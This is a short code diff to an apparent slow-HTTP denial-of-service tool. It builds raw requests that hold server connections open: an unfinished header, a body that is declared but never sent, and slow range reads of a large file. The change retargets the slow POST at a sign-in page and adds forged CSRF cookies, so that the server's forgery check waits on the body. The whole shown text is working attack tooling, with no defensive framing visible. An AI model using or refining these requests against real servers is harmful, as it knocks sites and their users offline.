@@ -24,7 +24,10 @@ def hold(address: str, film: str) -> dict[str, Any]:
     host = urlsplit(address).netloc
     kinds = {
         "heads": f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ",
-        "bodies": f"POST /language/setlang/ HTTP/1.1\r\nHost: {host}\r\nContent-Length: 900\r\n\r\na",
+        # Whoever checks a form against forgery reads it first: that is where it can be held up.
+        "bodies": f"POST /account/sign-in/ HTTP/1.1\r\nHost: {host}\r\n"
+        f"Cookie: csrftoken={'a' * 32}; __Host-csrftoken={'a' * 32}\r\n"
+        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 900\r\n\r\na",
         "readers": f"GET {film} HTTP/1.1\r\nHost: {host}\r\nRange: bytes=0-\r\n\r\n",
         "whole": f"GET {film} HTTP/1.1\r\nHost: {host}\r\n\r\n",
     }
